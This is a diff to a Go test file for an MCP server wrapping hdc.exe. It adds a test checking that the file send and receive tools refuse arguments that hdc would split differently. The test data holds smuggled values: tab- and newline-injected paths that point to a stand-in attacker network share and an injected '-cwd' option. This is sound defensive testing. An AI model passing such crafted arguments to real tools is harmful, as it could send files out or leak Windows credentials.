@@ -21,23 +21,7 @@ import (
 // way must be refused like a plain one: Windows would connect and
 // authenticate to the host, and file send needs no confirm.
 func TestRunNetworkPathsAsHdcSplits(t *testing.T) {
-	r := &countingRunner{}
-	ex, err := winexec.New(winexec.Config{Runner: r, HDCExe: "hdc.exe"})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer ex.Close()
-	srv := mcp.NewServer(&mcp.Implementation{Name: "netpath", Version: "1.0.0"}, nil)
-	hdc.AddTools(srv, ex, nil)
-	a, b := transport.Pipe(nil)
-	srv.Connect(b)
-	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
-	defer cancel()
-	c, err := client.Connect(ctx, a, nil)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer c.Close()
+	r, c, ctx := countingTools(t)
 	for _, args := range [][]string{
 		{"-t", "K1", "file", "send", `"\\attacker.example\share\x"`, "/data/local/tmp/x"},
 		{"-t", "K1", "file", "send", "a\t\\\\attacker.example\\share\\x", "/data/local/tmp/x"},
@@ -63,5 +47,63 @@ func TestRunNetworkPathsAsHdcSplits(t *testing.T) {
 		if err != nil || res.IsError {
 			t.Errorf("hdc_run %q = %v %q; want it run", args, err, res.TextOf())
 		}
+	}
+}
+
+// countingTools serves the hdc tools for a Windows hdc.exe whose runs are
+// only counted.
+func countingTools(t *testing.T) (*countingRunner, *client.Client, context.Context) {
+	t.Helper()
+	r := &countingRunner{}
+	ex, err := winexec.New(winexec.Config{Runner: r, HDCExe: "hdc.exe"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ex.Close() })
+	srv := mcp.NewServer(&mcp.Implementation{Name: "netpath", Version: "1.0.0"}, nil)
+	hdc.AddTools(srv, ex, nil)
+	a, b := transport.Pipe(nil)
+	srv.Connect(b)
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	t.Cleanup(cancel)
+	c, err := client.Connect(ctx, a, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { c.Close() })
+	return r, c, ctx
+}
+
+// TestFileToolsReadAsHdcSplits: the dedicated tools mean their local
+// path to be the one hdc opens, but hdc splits its command line again
+// (Base::SplitCommandToArgs drops double quotes and splits at tabs, CR
+// and LF) and takes the local path from the end: a remote path holding a
+// tab put a network share in its place, for hdc_file_send without
+// confirm. Every dedicated tool must refuse arguments hdc would split
+// differently.
+func TestFileToolsReadAsHdcSplits(t *testing.T) {
+	r, c, ctx := countingTools(t)
+	for _, call := range []struct {
+		tool string
+		args map[string]any
+	}{
+		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\x`, "remote": "\\\\attacker.example\\share\\x\t/data/local/tmp/x"}},
+		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\x`, "remote": `/data/a"b`}},
+		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\x`, "remote": "/data/a\nb"}},
+		{hdc.ToolFileRecv, map[string]any{"connectKey": "K1", "local": `C:\x`, "remote": "/data/x\t-cwd", "confirm": true}},
+		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": "/mnt/c/a\tb", "remote": "/data/x"}},
+	} {
+		res, err := c.CallTool(ctx, call.tool, call.args)
+		if err != nil || !res.IsError {
+			t.Errorf("%s %q = %v %q; want refused", call.tool, call.args, err, res.TextOf())
+		}
+	}
+	if n := r.count(); n != 0 {
+		t.Errorf("hdc ran %d times: %q", n, r.runs)
+	}
+	// Spaces are hdc's to quote, and it does.
+	res, err := c.CallTool(ctx, hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\my files\x`, "remote": "/data/my files/x"})
+	if err != nil || res.IsError {
+		t.Errorf("paths with spaces: %v %q", err, res.TextOf())
 	}
 }
